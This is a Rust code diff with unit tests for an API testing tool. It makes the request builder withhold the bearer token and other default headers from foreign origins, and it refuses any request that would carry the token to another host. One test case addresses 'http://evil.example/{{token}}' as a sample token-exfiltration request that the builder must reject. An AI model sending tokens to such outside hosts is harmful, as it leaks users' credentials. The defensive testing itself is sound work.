@@ -54,6 +54,12 @@ impl Ctx {
     }
 
     /// Renders `req` with `vars` into a request; `extra_query` is appended (page tokens).
+    ///
+    /// A `path` that is an absolute `http(s)://` URL is used as is. The default headers
+    /// (the bearer token, the scope ids) go with it only when it has the target's origin
+    /// (scheme, host and port); a request to another origin that would still carry the
+    /// target's token anywhere (URL, header, body) is refused, so a scenario cannot leak it
+    /// to a storage host or elsewhere.
     pub fn build(
         &self,
         req: &Request,
@@ -62,19 +68,30 @@ impl Ctx {
         body_override: Option<Value>,
     ) -> Result<Built, String> {
         let path = render_string(&req.path, vars).map_err(|e| e.to_string())?;
+        let absolute = is_absolute(&path);
+        let foreign = absolute && !same_origin(&path, &self.base_url);
         let mut query: Vec<(String, Value)> = Vec::new();
         for (k, v) in &req.query {
             query.push((k.clone(), render_value(v, vars).map_err(|e| e.to_string())?));
         }
         query.extend(extra_query.iter().cloned());
         let encoded = encode_query(&query);
-        let url = if encoded.is_empty() {
+        let full = if absolute {
+            path.clone()
+        } else {
             format!("{}{path}", self.base_url)
+        };
+        let url = if encoded.is_empty() {
+            full
         } else {
             let sep = if path.contains('?') { '&' } else { '?' };
-            format!("{}{path}{sep}{encoded}", self.base_url)
+            format!("{full}{sep}{encoded}")
         };
-        let mut headers: Vec<(String, String)> = self.default_headers.clone();
+        let mut headers: Vec<(String, String)> = if foreign {
+            Vec::new()
+        } else {
+            self.default_headers.clone()
+        };
         for (name, value) in &req.headers {
             headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
             if let Some(value) = value {
@@ -96,10 +113,31 @@ impl Ctx {
             let ct = req.content_type.clone().unwrap_or_else(|| "application/json".into());
             headers.push(("content-type".into(), ct));
         }
-        let bare_path = path.split('?').next().unwrap_or("").to_string();
+        if foreign && self.carries_token(&url, &headers, body.as_deref()) {
+            return Err(format!(
+                "refusing to send the target's token to {}, which is not the target's origin",
+                origin_of(&url).unwrap_or_else(|| "another origin".into())
+            ));
+        }
+        let api_path = if absolute {
+            if foreign {
+                String::new()
+            } else {
+                let below = reqwest::Url::parse(&path)
+                    .map(|u| u.path().to_string())
+                    .unwrap_or_default();
+                let base_path = reqwest::Url::parse(&self.base_url)
+                    .map(|u| u.path().trim_end_matches('/').to_string())
+                    .unwrap_or_default();
+                below.strip_prefix(&base_path).unwrap_or(&below).to_string()
+            }
+        } else {
+            path.split('?').next().unwrap_or("").to_string()
+        };
         let operation = match &req.operation {
             Some(id) => find_operation(id),
-            None => match_operation(req.method.as_str(), &bare_path),
+            None if api_path.is_empty() => None,
+            None => match_operation(req.method.as_str(), &api_path),
         };
         Ok(Built {
             outgoing: Outgoing {
@@ -110,6 +148,23 @@ impl Ctx {
             },
             operation,
         })
+    }
+
+    /// Whether the target's token appears anywhere in a request.
+    fn carries_token(&self, url: &str, headers: &[(String, String)], body: Option<&[u8]>) -> bool {
+        let Some(token) = self
+            .builtins
+            .get("token")
+            .and_then(Value::as_str)
+            .filter(|t| !t.is_empty())
+        else {
+            return false;
+        };
+        let encoded = super::http::encode_component(token);
+        let in_text = |text: &str| text.contains(token) || text.contains(&encoded);
+        in_text(url)
+            || headers.iter().any(|(_, v)| in_text(v))
+            || body.is_some_and(|b| in_text(&String::from_utf8_lossy(b)))
     }
 
     /// Sends a built request and counts it in the coverage table.
@@ -181,6 +236,31 @@ impl Ctx {
     }
 }
 
+/// Whether a scenario `path` is an absolute URL rather than a path below the target.
+pub fn is_absolute(path: &str) -> bool {
+    let lower = path.get(..8).unwrap_or(path).to_ascii_lowercase();
+    lower.starts_with("http://") || lower.starts_with("https://")
+}
+
+/// `scheme://host:port` of a URL, the port made explicit.
+fn origin_of(url: &str) -> Option<String> {
+    let url = reqwest::Url::parse(url).ok()?;
+    Some(format!(
+        "{}://{}:{}",
+        url.scheme(),
+        url.host_str()?,
+        url.port_or_known_default()?
+    ))
+}
+
+/// Same scheme, host and port (default ports made explicit); unparsable URLs never match.
+pub fn same_origin(a: &str, b: &str) -> bool {
+    match (origin_of(a), origin_of(b)) {
+        (Some(a), Some(b)) => a.eq_ignore_ascii_case(&b),
+        _ => false,
+    }
+}
+
 /// A curl command reproducing `out`; the token is read from `$BP_TOKEN`, never written.
 pub fn curl_line(out: &Outgoing) -> String {
     let quote = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
@@ -238,5 +318,133 @@ fn captured(
         response_body,
         error,
         elapsed_ms,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    const TOKEN: &str = "bp_pat_secret0123456789";
+
+    fn ctx() -> Ctx {
+        let mut builtins = Vars::new();
+        builtins.insert("token".into(), json!(TOKEN));
+        builtins.insert("upload".into(), json!("http://storage.example:9000/up?sig=1"));
+        Ctx {
+            http: Http::new(std::time::Duration::from_secs(1), 1024).unwrap(),
+            base_url: "http://127.0.0.1:8080".into(),
+            schemas: SchemaSet::embedded(),
+            strict: false,
+            redactor: Redactor::default(),
+            default_headers: vec![
+                ("authorization".into(), format!("Bearer {TOKEN}")),
+                ("x-bot-id".into(), "bot_1".into()),
+            ],
+            builtins,
+            coverage: Default::default(),
+            cancelled: Default::default(),
+            capture: None,
+        }
+    }
+
+    fn request(value: Value) -> Request {
+        serde_json::from_value(value).unwrap()
+    }
+
+    fn build(req: Value) -> Result<Built, String> {
+        let ctx = ctx();
+        let vars = ctx.builtins.clone();
+        ctx.build(&request(req), &vars, &[], None)
+    }
+
+    fn header<'a>(built: &'a Built, name: &str) -> Option<&'a str> {
+        built
+            .outgoing
+            .headers
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.as_str())
+    }
+
+    #[test]
+    fn paths_go_below_the_target_with_the_default_headers() {
+        let built = build(json!({"method": "GET", "path": "/v1/files/f1", "query": {"a": "1"}})).unwrap();
+        assert_eq!(built.outgoing.url, "http://127.0.0.1:8080/v1/files/f1?a=1");
+        assert_eq!(
+            header(&built, "authorization"),
+            Some(format!("Bearer {TOKEN}").as_str())
+        );
+        assert_eq!(built.operation.map(|o| o.id), Some("getFile"));
+    }
+
+    #[test]
+    fn an_absolute_url_of_another_origin_gets_no_default_header() {
+        let built = build(json!({
+            "method": "PUT",
+            "path": "{{upload}}",
+            "raw_body": "hello",
+            "content_type": "text/plain"
+        }))
+        .unwrap();
+        assert_eq!(built.outgoing.url, "http://storage.example:9000/up?sig=1");
+        assert_eq!(
+            built.outgoing.headers,
+            [("content-type".to_string(), "text/plain".to_string())]
+        );
+        assert!(built.operation.is_none());
+        // Another port of the same host is another origin too.
+        let built = build(json!({"method": "GET", "path": "http://127.0.0.1:8081/v1/files/f1"})).unwrap();
+        assert!(header(&built, "authorization").is_none());
+        assert!(header(&built, "x-bot-id").is_none());
+        let built = build(json!({"method": "GET", "path": "https://127.0.0.1:8080/v1/files/f1"})).unwrap();
+        assert!(header(&built, "authorization").is_none());
+    }
+
+    #[test]
+    fn an_absolute_url_of_the_target_origin_keeps_them() {
+        let built = build(json!({"method": "GET", "path": "http://127.0.0.1:8080/v1/files/f1?x=1"})).unwrap();
+        assert_eq!(built.outgoing.url, "http://127.0.0.1:8080/v1/files/f1?x=1");
+        assert!(header(&built, "authorization").is_some());
+        assert_eq!(built.operation.map(|o| o.id), Some("getFile"));
+        // A step may still drop them, as the official upload helper does.
+        let built = build(json!({
+            "method": "PUT",
+            "path": "http://127.0.0.1:8080/_storage/b/f/upload?signature=s",
+            "headers": {"authorization": null, "x-bot-id": null},
+            "raw_body": "x"
+        }))
+        .unwrap();
+        assert!(header(&built, "authorization").is_none());
+        assert!(built.operation.is_none());
+    }
+
+    #[test]
+    fn the_token_never_goes_to_another_origin() {
+        for req in [
+            json!({"method": "PUT", "path": "{{upload}}", "headers": {"authorization": "Bearer {{token}}"}}),
+            json!({"method": "PUT", "path": "{{upload}}", "headers": {"x-anything": "{{token}}"}}),
+            json!({"method": "PUT", "path": "{{upload}}", "query": {"t": "{{token}}"}}),
+            json!({"method": "PUT", "path": "http://evil.example/{{token}}"}),
+            json!({"method": "PUT", "path": "{{upload}}", "raw_body": "token={{token}}"}),
+            json!({"method": "PUT", "path": "{{upload}}", "body": {"t": "{{token}}"}}),
+        ] {
+            let err = build(req.clone())
+                .err()
+                .unwrap_or_else(|| panic!("sent the token: {req}"));
+            assert!(err.contains("storage.example") || err.contains("evil.example"), "{err}");
+        }
+    }
+
+    #[test]
+    fn origins_compare_scheme_host_and_port() {
+        assert!(same_origin("http://a:80/x", "http://a"));
+        assert!(same_origin("https://A.example/x", "https://a.example:443"));
+        assert!(!same_origin("http://a/x", "https://a"));
+        assert!(!same_origin("http://a:1/x", "http://a:2"));
+        assert!(!same_origin("not a url", "http://a"));
+        assert!(is_absolute("HTTPS://x") && is_absolute("http://x") && !is_absolute("/v1/x"));
     }
 }
